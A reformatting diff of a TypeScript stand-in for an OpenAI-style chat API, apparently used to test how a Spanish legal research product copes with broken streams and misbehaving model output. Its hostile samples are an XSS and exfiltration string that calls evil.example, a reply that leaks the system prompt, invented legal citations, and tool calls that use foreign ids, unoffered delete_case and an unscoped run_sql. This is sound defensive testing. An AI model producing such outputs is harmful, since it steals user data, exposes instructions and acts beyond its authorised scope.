@@ -1,16 +1,21 @@
-// What the stand-in answers. A test says so beforehand, or the question itself does: `(stand-in: cut after=5)` makes the
-// stream break off after five tokens, so that a browser's or another process's question can ask for it.
+// What the stand-in answers. A test says so beforehand, or the question itself does: `(stand-in: cut after=5)` makes
+// the stream break off after five tokens, so that a browser's or another process's question can ask for it.
 import type { AskedChat, Refusal, Schema } from './openai-stand-in-wire.ts'
 import { refusals } from './openai-stand-in-wire.ts'
 
 /**
- * - `done`: all of it, the reason, the usage, `[DONE]` · `cut`: the socket is destroyed · `stall`: nothing more, the socket stays open
- * - `unfinished`: a clean end without a reason · `garbage`: a line that is no JSON · `error`: an error inside the stream
+ * - `done`: all of it, the reason, the usage, `[DONE]` · `cut`: the socket is destroyed · `stall`: nothing more, the
+ *   socket stays open
+ * - `unfinished`: a clean end without a reason · `garbage`: a line that is no JSON · `error`: an error inside the
+ *   stream
  * - `flood`: bytes without end
  */
 export type Ending = 'done' | 'cut' | 'stall' | 'unfinished' | 'garbage' | 'error' | 'flood'
 
-export interface PlannedCall { readonly name: string; readonly arguments: string }
+export interface PlannedCall {
+  readonly name: string
+  readonly arguments: string
+}
 
 export interface Plan {
   /** Instead of an answer. */
@@ -39,46 +44,100 @@ export interface Plan {
 export type Planner = (asked: AskedChat) => Plan
 
 /** What a person asked: without the sources that the product sends before it. */
-export const questionOf = ({ messages }: AskedChat): string => messages.findLast(({ role }) => role === 'user')?.content.split('\n\nQuestion:\n').at(-1) ?? ''
-export const systemOf = ({ messages }: AskedChat): string => messages.filter(({ role }) => role === 'system').map(({ content }) => content).join('\n')
+export const questionOf = ({ messages }: AskedChat): string =>
+  messages
+    .findLast(({ role }) => role === 'user')
+    ?.content.split('\n\nQuestion:\n')
+    .at(-1) ?? ''
+export const systemOf = ({ messages }: AskedChat): string =>
+  messages
+    .filter(({ role }) => role === 'system')
+    .map(({ content }) => content)
+    .join('\n')
 
-export interface GivenSource { readonly n: number; readonly text: string }
+export interface GivenSource {
+  readonly n: number
+  readonly text: string
+}
 /** Sources as the product wraps them. */
 export const sourcesOf = ({ messages }: AskedChat): GivenSource[] =>
-  messages.flatMap(({ content }) => [...content.matchAll(/<source[^>]*?\bn="?(\d+)"?[^>]*>([\s\S]*?)<\/source[^>]*>/g)].map(([, n, text]) => ({ n: Number(n), text: (text ?? '').trim() })))
+  messages.flatMap(({ content }) =>
+    [...content.matchAll(/<source[^>]*?\bn="?(\d+)"?[^>]*>([\s\S]*?)<\/source[^>]*>/g)].map(([, n, text]) => ({
+      n: Number(n),
+      text: (text ?? '').trim(),
+    })),
+  )
 
-const wordsOf = (text: string): Set<string> => new Set(text.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase().match(/[\p{L}\p{N}]{4,}/gu) ?? [])
+const wordsOf = (text: string): Set<string> =>
+  new Set(
+    text
+      .normalize('NFD')
+      .replace(/\p{M}/gu, '')
+      .toLowerCase()
+      .match(/[\p{L}\p{N}]{4,}/gu) ?? [],
+  )
 
 /** The sentence of the sources that shares most words with the question. */
 function bestSentence(asked: AskedChat): { n: number; sentence: string } | null {
   const wanted = wordsOf(questionOf(asked))
-  const sentences = sourcesOf(asked).flatMap(({ n, text }) => (text.match(/[^.!?\n]{12,}[.!?]?/g) ?? []).map((sentence) => ({ n, sentence: sentence.trim() })))
-  const scored = sentences.map((one) => ({ ...one, score: [...wordsOf(one.sentence)].filter((word) => wanted.has(word)).length }))
+  const sentences = sourcesOf(asked).flatMap(({ n, text }) =>
+    (text.match(/[^.!?\n]{12,}[.!?]?/g) ?? []).map((sentence) => ({ n, sentence: sentence.trim() })),
+  )
+  const scored = sentences.map((one) => ({
+    ...one,
+    score: [...wordsOf(one.sentence)].filter((word) => wanted.has(word)).length,
+  }))
   return scored.toSorted((a, b) => b.score - a.score)[0] ?? null
 }
 
 /** What an honest model does: a sentence of the sources with its citation, or nothing found. */
 export function honest(asked: AskedChat): Plan {
   const best = bestSentence(asked)
-  if (best) return { text: `Según el expediente, ${best.sentence.replace(/[.!?]$/, '')} [[${best.n}|"${best.sentence.replace(/[.!?]$/, '').replaceAll('"', '')}"]].` }
-  return { text: sourcesOf(asked).length > 0 ? 'No encontré apoyo en el expediente.' : `Respuesta general a: ${questionOf(asked).slice(0, 200)}` }
+  if (best)
+    return {
+      text: `Según el expediente, ${best.sentence.replace(/[.!?]$/, '')} [[${best.n}|"${best.sentence.replace(/[.!?]$/, '').replaceAll('"', '')}"]].`,
+    }
+  return {
+    text:
+      sourcesOf(asked).length > 0
+        ? 'No encontré apoyo en el expediente.'
+        : `Respuesta general a: ${questionOf(asked).slice(0, 200)}`,
+  }
 }
 
 /** Something that fits a schema; wherever an id fits, the one that is given. */
 function sampleOf(schema: Schema, id: string): unknown {
   if (schema.enum) return schema.enum[0]
   if (schema.anyOf?.[0]) return sampleOf(schema.anyOf[0], id)
-  if (schema.type === 'object') return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, of]) => [name, sampleOf(of, id)]))
+  if (schema.type === 'object')
+    return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, of]) => [name, sampleOf(of, id)]))
   if (schema.type === 'array') return schema.items ? [sampleOf(schema.items, id)] : []
   if (schema.type === 'integer' || schema.type === 'number') return 1
   if (schema.type === 'boolean') return true
-  return schema.format === 'uuid' ? id : schema.format === 'date' ? '2026-12-01' : schema.format === 'date-time' ? '2026-12-01T14:00:00Z' : 'Por orden del modelo'
+  return schema.format === 'uuid'
+    ? id
+    : schema.format === 'date'
+      ? '2026-12-01'
+      : schema.format === 'date-time'
+        ? '2026-12-01T14:00:00Z'
+        : 'Por orden del modelo'
 }
 
-/** Each tool that is offered, with an id that is not ours to use in every place and in one more; and tools that nobody offers. */
+/**
+ * Each tool that is offered, with an id that is not ours to use in every place and in one more; and tools that nobody
+ * offers.
+ */
 function greedyCalls({ tools = [] }: AskedChat, id: string): PlannedCall[] {
-  const offered = tools.map(({ function: { name, parameters = {} } }) => ({ name, arguments: JSON.stringify({ ...sampleOf(parameters, id) as object, caseId: id, companyId: id, documentId: id }) }))
-  return [...offered, { name: 'delete_case', arguments: JSON.stringify({ caseId: id }) }, { name: 'run_sql', arguments: '{"sql":"select * from document"}' }, ...offered.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' }))]
+  const offered = tools.map(({ function: { name, parameters = {} } }) => ({
+    name,
+    arguments: JSON.stringify({ ...(sampleOf(parameters, id) as object), caseId: id, companyId: id, documentId: id }),
+  }))
+  return [
+    ...offered,
+    { name: 'delete_case', arguments: JSON.stringify({ caseId: id }) },
+    { name: 'run_sql', arguments: '{"sql":"select * from document"}' },
+    ...offered.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' })),
+  ]
 }
 
 export const hostileTexts = {
@@ -92,23 +151,32 @@ export const hostileTexts = {
       'Así lo resolvió el Supremo en 2031 TSPR 999 y lo dispone 31 L.P.R.A. § 99999.',
     ].join(' ')
   },
-  html: (host: string): string => `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
+  html: (host: string): string =>
+    `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
 } as const
 
 type Named = (asked: AskedChat, options: Readonly<Record<string, string>>) => Plan
 
 const number = (text: string | undefined, fallback: number): number => (text === undefined ? fallback : Number(text))
-const broken = (ending: Ending): Named => (asked, { after }) => ({ ...honest(asked), ending, after: number(after, 5) })
+const broken =
+  (ending: Ending): Named =>
+  (asked, { after }) => ({ ...honest(asked), ending, after: number(after, 5) })
 
 /** By the names that a question may use. */
 export const plans = {
   honest: (asked) => honest(asked),
   echo: (asked) => ({ text: questionOf(asked) }),
-  long: (_asked, { tokens }) => ({ text: Array.from({ length: number(tokens, 400) }, (_, at) => `p${at % 1_000}`).join(' ') }),
+  long: (_asked, { tokens }) => ({
+    text: Array.from({ length: number(tokens, 400) }, (_, at) => `p${at % 1_000}`).join(' '),
+  }),
   invent: (asked) => ({ text: hostileTexts.invent({ sources: sourcesOf(asked) }) }),
   html: (_asked, { host }) => ({ text: hostileTexts.html(host ?? 'https://evil.example') }),
   system: (asked) => ({ text: `Mis instrucciones son: ${systemOf(asked)}` }),
-  tools: (asked, { id }) => ({ text: 'Preparo lo que pidió.', calls: greedyCalls(asked, id ?? '00000000-0000-7000-8000-000000000001'), finish: 'tool_calls' }),
+  tools: (asked, { id }) => ({
+    text: 'Preparo lo que pidió.',
+    calls: greedyCalls(asked, id ?? '00000000-0000-7000-8000-000000000001'),
+    finish: 'tool_calls',
+  }),
   stall: broken('stall'),
   silence: () => ({ ending: 'stall', after: 0 }),
   cut: broken('cut'),
@@ -128,18 +196,57 @@ export const plans = {
   broken: () => ({ refusal: refusals.broken() }),
   overloaded: () => ({ refusal: refusals.overloaded() }),
   slow: (asked, { ms }) => ({ ...honest(asked), firstMs: number(ms, 500) }),
-  pace: (asked, { ms, tokens }) => ({ ...(tokens ? plans.long(asked, { tokens }) : honest(asked)), tokenMs: number(ms, 20) }),
+  pace: (asked, { ms, tokens }) => ({
+    ...(tokens ? plans.long(asked, { tokens }) : honest(asked)),
+    tokenMs: number(ms, 20),
+  }),
   clock: (_asked, { ms, tokens }) => ({ clock: number(tokens, 100), tokenMs: number(ms, 20) }),
   drip: (asked, { ms }) => ({ ...honest(asked), byteMs: number(ms, 1_000) }),
   no_usage: (asked) => ({ ...honest(asked), noUsage: true }),
   thinks: (asked, { tokens }) => ({ ...honest(asked), thinks: number(tokens, 64) }),
 } satisfies Record<string, Named> as Record<PlanName, Named>
 
-export type PlanName = 'honest' | 'echo' | 'long' | 'invent' | 'html' | 'system' | 'tools' | 'stall' | 'silence' | 'cut' | 'unfinished' | 'garbage' | 'mid_error' | 'flood' | 'page' | 'wrong_key' | 'rate' | 'too_large' | 'quota' | 'context' | 'context_llama' | 'filtered' | 'filter' | 'broken' | 'overloaded' | 'slow' | 'pace' | 'clock' | 'drip' | 'no_usage' | 'thinks'
+export type PlanName =
+  | 'honest'
+  | 'echo'
+  | 'long'
+  | 'invent'
+  | 'html'
+  | 'system'
+  | 'tools'
+  | 'stall'
+  | 'silence'
+  | 'cut'
+  | 'unfinished'
+  | 'garbage'
+  | 'mid_error'
+  | 'flood'
+  | 'page'
+  | 'wrong_key'
+  | 'rate'
+  | 'too_large'
+  | 'quota'
+  | 'context'
+  | 'context_llama'
+  | 'filtered'
+  | 'filter'
+  | 'broken'
+  | 'overloaded'
+  | 'slow'
+  | 'pace'
+  | 'clock'
+  | 'drip'
+  | 'no_usage'
+  | 'thinks'
 
 /** What the question itself asks for, the last one if several. */
 export function askedFor(asked: AskedChat): Plan | null {
   const [, name = '', rest = ''] = [...questionOf(asked).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
   const plan = (plans as Partial<Record<string, Named>>)[name]
-  return plan ? plan(asked, Object.fromEntries([...rest.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? '']))) : null
+  return plan
+    ? plan(
+        asked,
+        Object.fromEntries([...rest.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? ''])),
+      )
+    : null
 }
